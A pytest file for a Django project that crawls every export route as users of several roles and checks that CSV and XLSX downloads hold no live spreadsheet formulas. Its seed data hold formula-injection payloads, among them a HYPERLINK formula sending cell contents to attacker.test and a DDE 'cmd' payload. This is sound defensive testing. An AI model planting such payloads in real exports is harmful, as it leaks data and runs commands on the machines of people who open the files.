"""Formula injection, every file: the crawl GETs every route of the application (no argument,
or only placeholder ones) as users of several roles, and every CSV or XLSX that comes back is
opened: no CSV cell starts with `=`, `+`, `-`, `@`, a tab or a carriage return unless it is a
plain number (the export's leading apostrophe neutralises the others), and no XLSX cell is a
formula (text is stored as text). The data hold such texts in the fields the exports write
(an organisation's name, an incident's narrative and place, a person's name, a service, a
training), and the crawl checks it met them, so that it can fail."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from testkit import fill, walk

from passerelle.accounts.tests.factories import OrganisationFactory
from passerelle.coordination.tests.training_fixtures import make_training
from passerelle.core import exports
from passerelle.incidents.tests.factories import incident_factory, person_factory
from passerelle.referrals.tests.factories import service_factory

pytestmark = pytest.mark.django_db

RISKY = {
    "name": '=HYPERLINK("http://attacker.test/?"&A1,"Org")',
    "narrative": "-2+3+cmd|' /C calc'!A0",
    "place": "@SUM(1,1)",
    "person": "+33 1 23 45",  # a text starting with + that is not a plain number
    "service": "\t=1+1",
    "training": "=2+2 training",
}
ROLES = ("verifier", "im_officer", "org_admin", "system_admin")
CSV_TYPES = ("text/csv", "text/plain")
XLSX_TYPE = exports.XLSX_TYPE


def _risky(text: str) -> bool:
    return text.startswith(exports.FORMULA_START) and not exports.PLAIN_NUMBER.match(text)


@pytest.fixture
def seeded(user_with_role, areas):
    org = OrganisationFactory(acronym="FORM", name=RISKY["name"], name_en=RISKY["name"])
    monitor = user_with_role("monitor", org)
    incident = incident_factory(
        monitor,
        area=areas["ML0701"],
        classification=2,
        narrative=RISKY["narrative"],
        exact_location=RISKY["place"],
    )
    person_factory(monitor, incident, full_name=RISKY["person"])
    service_factory(org, areas=[areas["ML07"]], name=RISKY["service"], code="FORM-1")
    make_training(org, areas["ML0701"], title=RISKY["training"])
    return org


def _files(client) -> dict[str, tuple[str, bytes]]:
    found = {}
    for route in walk():
        if route.is_admin or route.name is None:
            continue
        url = fill(route, {})
        if url is None or "public_id" in route.kwargs:
            continue
        response = client.get(url)
        kind = response.get("Content-Type", "")
        if response.status_code == 200 and (kind.startswith(CSV_TYPES) or kind == XLSX_TYPE):
            if kind.startswith("text/plain") and not route.route.endswith(".csv"):
                continue
            found[route.name] = (kind, response.content)
    return found


def _cells(kind: str, content: bytes) -> tuple[list[str], list[str]]:
    """(texts read, problems): every text cell, and each one that would run as a formula."""
    texts, problems = [], []
    if kind == XLSX_TYPE:
        book = openpyxl.load_workbook(io.BytesIO(content))
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        problems.append(f"{sheet.title}!{cell.coordinate} is a formula")
                    elif isinstance(cell.value, str):
                        texts.append(cell.value)
        return texts, problems
    text = content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            texts.append(exports.unescape(cell))
            if _risky(cell):
                problems.append(f"CSV cell {cell!r} starts a formula")
    return texts, problems


def test_no_export_of_any_role_holds_a_live_formula(seeded, client_as):
    seen_files, met = set(), set()
    problems = []
    for role in ROLES:
        client = client_as(role, seeded)
        for name, (kind, content) in _files(client).items():
            seen_files.add(name)
            texts, found = _cells(kind, content)
            problems += [f"{name} as {role}: {p}" for p in found]
            met |= {key for key, value in RISKY.items() if value in texts}
    assert not problems, "\n".join(problems)
    # the crawl reached the exports and met the risky texts in them (it can fail)
    assert {
        "incidents:export_xlsx",
        "sharing:export",
        "referrals:service_export_hxl",
        "referrals:service_export_xlsx",
        "coordination:training_xlsx",
    } <= seen_files
    assert {"name", "narrative", "place", "service", "training"} <= met
